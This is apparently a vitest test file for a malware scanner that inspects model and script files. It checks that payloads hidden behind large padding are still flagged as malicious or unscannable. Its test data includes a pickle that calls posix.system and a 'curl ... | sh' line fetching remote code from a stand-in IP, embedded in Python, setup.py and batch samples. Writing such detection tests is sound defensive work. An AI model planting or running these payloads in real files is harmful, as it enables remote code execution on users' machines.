import { describe, expect, it } from 'vitest';
import { FORMATS } from '../../src/formats/table.ts';
import { readFileAs } from '../../src/intake/read-file.ts';
import { createBudget } from '../../src/kernel/budget.ts';
import { sourceOf } from '../../src/kernel/bytes.ts';
import { judge } from './judge.ts';

const CALL = "cposix\nsystem\n(S'true'\ntR.";
const FETCHES = 'curl -s https://203.0.113.9/a | sh';
const PYTHON = `import os\nos.system('${FETCHES}')\n`;

/** What stands behind more of the same than is looked at. */
describe('a payload behind a bound', () => {
  it.each<[string, string, string | Uint8Array, string]>([
    ['a pickle behind ten thousand', 'a.pkl', 'N.'.repeat(10_001) + CALL, 'unscannable'],
    ['the last of many settings', 'a.pkl', settings(1200, 'os.system'), 'malicious'],
    ['a pickle that is held, and larger than what is unpacked', 'a.pkl', holding(300_000), 'malicious'],
    ['a program behind a megabyte of comments', 'a.py', '# x\n'.repeat(270_000) + PYTHON, 'malicious'],
    [
      'a program that is longer than is followed',
      'setup.py',
      `x = 1${'; y = 1'.repeat(160_000)}\n${PYTHON}`,
      'unscannable',
    ],
    [
      'a call in a table of a thousand numbers',
      'a.py',
      `x = [${'1,'.repeat(3000)}__import__('os').system('${FETCHES}')]\n`,
      'malicious',
    ],
    [
      'the end of a command that is longer than is kept',
      'setup.py',
      `import os\nos.system("${'true; '.repeat(4000)}" + "${FETCHES}")\n`,
      'malicious',
    ],
    [
      'a command behind thousands of others',
      'setup.py',
      `import os\n${Array.from({ length: 5000 }, (_, at) => `os.system("e ${at}")\n`).join('')}os.system("${FETCHES}")\n`,
      'unscannable',
    ],
    ['a step of a tokenizer behind thousands', 'tokenizer.json', tokenizer(3000), 'unscannable'],
    ['a command at the end of a long line', 'x.bat', `echo ${'a '.repeat(2000)}& ${FETCHES}\n`, 'malicious'],
  ])('%s is not passed over', async (_, path, content, verdict) => {
    const bytes = typeof content === 'string' ? Buffer.from(content, 'latin1') : content;
    expect((await judge(path, bytes)).verdict).toBe(verdict);
  });
});

describe('values that are not looked at', () => {
  it('are counted, and are no part of what was understood', async () => {
    const rows = 100_050;
    const header = `{'descr': '|S16', 'fortran_order': False, 'shape': (${rows},), }`.padEnd(117);
    const front = Buffer.concat([
      Buffer.from('934e554d5059010076 00'.replace(' ', ''), 'hex'),
      Buffer.from(`${header}\n`),
    ]);
    const bytes = Buffer.concat([front, Buffer.alloc(16 * rows, 0xf0)]);
    const listed = { kind: 'file', path: 'a.npy', size: bytes.length, claim: null } as const;
    const readings = await readFileAs(
      FORMATS,
      listed.path,
      sourceOf(bytes),
      createBudget(() => 0),
    );
    expect(readings.unread).toBe(50 * 16);
    const { findings } = await judge(listed.path, bytes);
    expect(findings.map(({ rule }) => rule)).toEqual(['unread-files/looked-at-some']);
  });
});

function tokenizer(many: number): string {
  const pretokenizers = [...Array.from({ length: many }, () => ({ type: 'Whitespace' })), { type: 'Foreign' }];
  const model = { type: 'BPE', vocab: {}, merges: [] };
  return JSON.stringify({
    version: '1.0',
    model,
    added_tokens: [],
    pre_tokenizer: { type: 'Sequence', pretokenizers },
  });
}

function settings(many: number, last: string): string {
  const row = (name: string): string => `(dS'_target_'\nS'${name}'\nsa`;
  const rows = Array.from({ length: many }, (_, at) => row(`torch.nn.Linear${at}`));
  return `(l${rows.join('')}${row(last)}.`;
}

function holding(many: number): Uint8Array {
  const inner = Buffer.concat([
    Buffer.from([0x80, 4, 0x58]),
    length(many),
    Buffer.alloc(many, 97),
    Buffer.from(`0${CALL}`),
  ]);
  return Buffer.concat([Buffer.from([0x80, 4, 0x42]), length(inner.length), inner, Buffer.from('.')]);
}

function length(bytes: number): Uint8Array {
  const told = Buffer.alloc(4);
  told.writeUInt32LE(bytes);
  return told;
}
